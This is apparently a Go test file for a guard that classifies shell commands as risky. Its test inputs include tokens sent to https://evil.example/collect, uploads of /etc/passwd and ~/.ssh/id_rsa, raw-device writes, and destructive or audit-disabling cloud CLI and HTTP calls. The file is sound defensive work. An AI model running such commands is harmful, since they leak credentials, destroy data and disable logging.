package dsl

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestTokenForHost(t *testing.T) {
	cases := []struct {
		value string
		args  []string
		want  bool
	}{
		{"token=$SLACK_TOKEN", []string{"-d", "token=$SLACK_TOKEN", "https://slack.com/api/chat.postMessage"}, true},
		{"Authorization: Bearer ${GITHUB_TOKEN}", []string{"https://api.github.com/user"}, true},
		{"token=$SLACK_TOKEN", []string{"https://evil.example/collect"}, false},
		{"$GITHUB_TOKEN $AWS_SECRET_ACCESS_KEY", []string{"https://api.github.com/"}, false},
		{"token=$SLACK_TOKEN", []string{"https://slack.com.evil.example/x"}, false},
		{"literal", []string{"https://slack.com/"}, false},
	}
	for _, c := range cases {
		if got := tokenForHost(c.value, c.args); got != c.want {
			t.Errorf("tokenForHost(%q, %q) = %v, want %v", c.value, c.args, got, c.want)
		}
	}
	for arg, want := range map[string]string{"k@/etc/passwd": "/etc/passwd", "@~/.ssh/id_rsa": "~/.ssh/id_rsa", "a=@f": "f", "user@example.com=1": "example.com=1", "plain": "", "e=a@b.com": ""} {
		if got := uploadedFile(arg); got != want {
			t.Errorf("uploadedFile(%q) = %q, want %q", arg, got, want)
		}
	}
}

func TestIsRawDevice(t *testing.T) {
	for p, want := range map[string]bool{"/dev/sda": true, "/dev/vg0/root": true, "/dev/mem": true, "/dev/mtd0": true,
		"/dev/block/8:0": true, "/dev/null": false, "/dev/fd/3": false, "/dev/pts/1": false, "/dev/shm/x": false,
		"/dev/tcp/host/80": false, "/dev/stdout": false, "disk.img": false, "/dev/": false} {
		if got := isRawDevice(p); got != want {
			t.Errorf("isRawDevice(%q) = %v, want %v", p, got, want)
		}
	}
}

func TestServiceAction(t *testing.T) {
	cases := []struct {
		name string
		args []string
		want string
	}{
		{"aws", []string{"s3", "rb", "s3://b", "--force"}, "delete"},
		{"aws", []string{"s3", "rm", "s3://b/k", "--dryrun"}, ""},
		{"aws", []string{"s3", "sync", "./d", "s3://b", "--delete"}, "delete"},
		{"aws", []string{"s3", "sync", "./d", "s3://b"}, ""},
		{"aws", []string{"--profile", "prod", "elbv2", "delete-target-group", "--target-group-arn", "x"}, "delete"},
		{"aws", []string{"ec2", "describe-instances"}, ""},
		{"aws", []string{"organizations", "leave-organization"}, "delete"},
		{"aws", []string{"ec2", "terminate-instances", "--instance-ids", "i-1"}, "delete"},
		{"aws", []string{"secretsmanager", "delete-secret", "--secret-id", "x", "--force-delete-without-recovery"}, "secret"},
		{"aws", []string{"kms", "schedule-key-deletion", "--key-id", "k"}, "secret"},
		{"aws", []string{"cloudtrail", "stop-logging", "--name", "t"}, "audit"},
		{"aws", []string{"cloudtrail", "delete-trail", "--name", "t"}, "audit"},
		{"aws", []string{"s3api", "put-bucket-acl", "--bucket", "b", "--acl", "public-read"}, "public"},
		{"aws", []string{"s3api", "put-bucket-acl", "--bucket", "b", "--acl", "private"}, ""},
		{"aws", []string{"ec2", "authorize-security-group-ingress", "--group-id", "sg", "--cidr", "0.0.0.0/0"}, "public"},
		{"aws", []string{"ec2", "authorize-security-group-ingress", "--group-id", "sg", "--cidr", "10.0.0.0/8"}, ""},
		{"gcloud", []string{"compute", "instances", "delete", "vm"}, "delete"},
		{"gcloud", []string{"storage", "buckets", "add-iam-policy-binding", "gs://b", "--member=allUsers", "--role=roles/storage.objectViewer"}, "public"},
		{"gcloud", []string{"compute", "instances", "list"}, ""},
		{"vault", []string{"secrets", "disable", "kv/"}, "secret"},
		{"vault", []string{"kv", "get", "secret/x"}, ""},
		{"kafka-topics", []string{"--bootstrap-server", "kafka.example.com:9092", "--delete", "--topic", "t"}, "delete"},
		{"kafka-topics", []string{"--bootstrap-server", "localhost:9092", "--delete", "--topic", "t_test"}, ""},  // a dev broker's test topic
		{"kafka-topics", []string{"--bootstrap-server", "localhost:9092", "--delete", "--topic", "t"}, "delete"}, // its data
		{"kafka-topics", []string{"--bootstrap-server", "localhost:9092", "--delete", "--topic", "t.*"}, "delete"},
		{"kafka-topics", []string{"--bootstrap-server", "localhost:9092", "--list"}, ""},
		{"kafka-topics.sh", []string{"--delete", "--topic", "t"}, "delete"},
		{"restic", []string{"forget", "--keep-last", "1", "--prune"}, "backup"},
		{"restic", []string{"snapshots"}, ""},
		{"borg", []string{"prune", "--keep-daily", "7"}, "backup"},
		{"borg", []string{"list", "repo"}, ""},
		{"rclone", []string{"sync", "/src", "remote:b"}, "delete"},
		{"rclone", []string{"copy", "/src", "remote:b"}, ""},
		{"gh", []string{"repo", "delete", "o/r", "--yes"}, "delete"},
		{"gh", []string{"secret", "delete", "TOKEN"}, "secret"},
		{"gh", []string{"repo", "edit", "--visibility", "public"}, "public"},
		{"gh", []string{"repo", "edit", "--description", "x"}, ""},
		{"gh", []string{"pr", "view", "1"}, ""},
		{"java", []string{"-jar", "jenkins-cli.jar", "-s", "http://j/", "delete-job", "x"}, "delete"},
		{"java", []string{"-jar", "jenkins-cli.jar", "-s", "http://j/", "get-job", "x"}, ""},
		{"rabbitmqctl", []string{"delete_user", "bob"}, "delete"},
		{"heroku", []string{"apps:destroy", "--app", "x"}, "delete"},
		{"ls", []string{"delete"}, ""},
	}
	for _, c := range cases {
		if got := serviceAction(c.name, c.args); got != c.want {
			t.Errorf("serviceAction(%q, %q) = %q, want %q", c.name, c.args, got, c.want)
		}
	}
}

func TestHTTPAction(t *testing.T) {
	cases := []struct {
		name string
		args []string
		want string
	}{
		{"curl", []string{"-X", "DELETE", "https://api.example.com/v1/items/3"}, "delete"},
		{"curl", []string{"--request=DELETE", "https://api.example.com/v1/items/3"}, "delete"},
		{"curl", []string{"-XDELETE", "https://api.example.com/v1/items/3"}, "delete"},
		{"curl", []string{"https://api.example.com/v1/items/3", "-X", "DELETE"}, "delete"},
		{"curl", []string{"-f", "-X", "DELETE", "https://api.example.com/x"}, "delete"},
		{"curl", []string{"-X", "GET", "https://api.example.com/v1/items/3"}, ""},
		{"curl", []string{"-X", "DELETE", "http://localhost:3000/api/todos/1"}, "local"},
		{"curl", []string{"-X", "DELETE", "http://localhost:9200/logs_test"}, "local"}, // one test index of a local engine
		{"curl", []string{"-X", "DELETE", "http://localhost:9200/logs"}, "wipe"},
		{"curl", []string{"-X", "DELETE", "http://localhost:9200/logs-*"}, "wipe"},
		{"curl", []string{"-X", "DELETE", "http://localhost:9200/prod-logs"}, "wipe"},
		{"curl", []string{"-X", "DELETE", "http://elasticsearch:9200/_all"}, "wipe"},
		{"curl", []string{"-X", "POST", "http://localhost:9200/i/_delete_by_query", "-d", "{}"}, "wipe"},
		{"curl", []string{"-X", "POST", "http://localhost:9200/i/_search", "-d", "{}"}, ""},
		{"curl", []string{"-d", "x=1", "https://api.example.com/v1/items"}, ""},
		{"http", []string{"DELETE", ":9200/my-index"}, "wipe"},
		{"http", []string{"DELETE", ":9200/test-index"}, "local"},
		{"http", []string{"DELETE", "es.example.com:9200/my-index"}, "wipe"},
		{"http", []string{"GET", ":9200/_cat/indices"}, ""},
		{"http", []string{"DELETE", "api.example.com/items/1"}, "delete"},
		{"wget", []string{"--method=DELETE", "https://api.example.com/x"}, "delete"},
		{"wget", []string{"https://example.com/file.tgz"}, ""},
		{"gh", []string{"api", "-X", "DELETE", "/repos/o/r"}, "delete"},
		{"gh", []string{"api", "/repos/o/r"}, ""},
		{"glab", []string{"api", "--method", "DELETE", "projects/1"}, "delete"},
		{"gh", []string{"repo", "delete"}, ""},
		{"curl", []string{"-X", "DELETE", "http://[::1]:8080/x"}, "local"},
		{"curl", []string{"-X", "PUT", "-H", "Authorization: token $GH_TOKEN", "https://api.github.com/repos/o/r/collaborators/u"}, "grant"},
		{"curl", []string{"-XPUT", "https://api.github.com/repos/o/r/collaborators/u?permission=admin"}, "grant"},
		{"curl", []string{"-d", `{"key":"ssh-ed25519 AAAA"}`, "https://api.github.com/repos/o/r/keys"}, "grant"},
		{"curl", []string{"-X", "PUT", "https://ghe.example.com/api/v3/orgs/o/memberships/u"}, "grant"},
		{"curl", []string{"--request", "POST", "https://gitlab.example.com/api/v4/projects/1/members", "-d", "user_id=7"}, "grant"},
		{"http", []string{"PUT", "api.github.com/repos/o/r/collaborators/u"}, "grant"},
		{"gh", []string{"api", "-X", "PUT", "repos/o/r/collaborators/u"}, "grant"},
		{"curl", []string{"https://api.github.com/repos/o/r/collaborators/u"}, ""},
		{"curl", []string{"-X", "PUT", "https://x.example.com/repos/o/r/collaborators/u"}, ""},
		{"curl", []string{"-X", "GET", "https://api.github.com/repos/o/r/keys"}, ""},
		{"curl", []string{"-X", "PUT", "https://api.github.com/repos/o/r/contents/README.md", "-d", "{}"}, ""},
	}
	for _, c := range cases {
		if got := httpAction(c.name, c.args); got != c.want {
			t.Errorf("httpAction(%q, %q) = %q, want %q", c.name, c.args, got, c.want)
		}
	}
}

// TestExpandMessage: a {target} names what the command acts on.
func TestExpandMessage(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"aws", []string{"s3", "rb", "s3://bucket"}, "aws s3 rb s3://bucket: deletes"},
		{"aws", []string{"--profile", "prod", "rds", "delete-db-instance", "--db-instance-identifier", "db1"}, "aws rds delete-db-instance --db-instance-identifier db1: deletes"},
		{"restic", []string{"forget", "--keep-last", "1", "--prune"}, "restic forget --prune: deletes"},
		{"kafka-topics", []string{"--bootstrap-server", "kafka:9092", "--delete", "--topic", "orders"}, "kafka-topics --delete --topic orders: deletes"},
		{"curl", []string{"-X", "DELETE", "https://api.x.io/v1/users/7"}, "DELETE https://api.x.io/v1/users/7: deletes"},
		{"http", []string{"DELETE", ":9200/idx"}, "DELETE :9200/idx: deletes"},
	} {
		got := expandMessage("{target}: deletes", &CommandEnv{Name: tc.name, Args: tc.args})
		if got != tc.want {
			t.Errorf("%s %q: got %q, want %q", tc.name, tc.args, got, tc.want)
		}
	}
	if got := expandMessage("plain", nil); got != "plain" {
		t.Errorf("a message without {target} changed: %q", got)
	}
	if got := expandMessage("{target}: x", &LineEnv{}); got != "the resource: x" {
		t.Errorf("line scope: %q", got)
	}
}

// rulesOn is the union of the on lists of the built-in rules whose
// condition holds call, lowercased.
func rulesOn(t *testing.T, call string) map[string]bool {
	t.Helper()
	files, err := filepath.Glob("../rules/*.yaml")
	if err != nil || len(files) == 0 {
		t.Fatalf("no built-in rules: %v", err)
	}
	on := map[string]bool{}
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		rules, err := Parse(Source{Path: file, Data: data, Origin: Builtin})
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rules {
			if strings.Contains(r.When, call) {
				for _, name := range r.On {
					on[strings.ToLower(name)] = true
				}
			}
		}
	}
	return on
}

// TestServiceCLIsJudged: a CLI the verb model knows is judged only when a
// rule that calls serviceAction is evaluated for it.
func TestServiceCLIsJudged(t *testing.T) {
	on := rulesOn(t, "serviceAction(name, args)")
	for name := range serviceCLIs() {
		if name != "jenkins-cli" && !on[name] && !on[name+".sh"] {
			t.Errorf("%s: no built-in rule that calls serviceAction is evaluated for it", name)
		}
	}
}
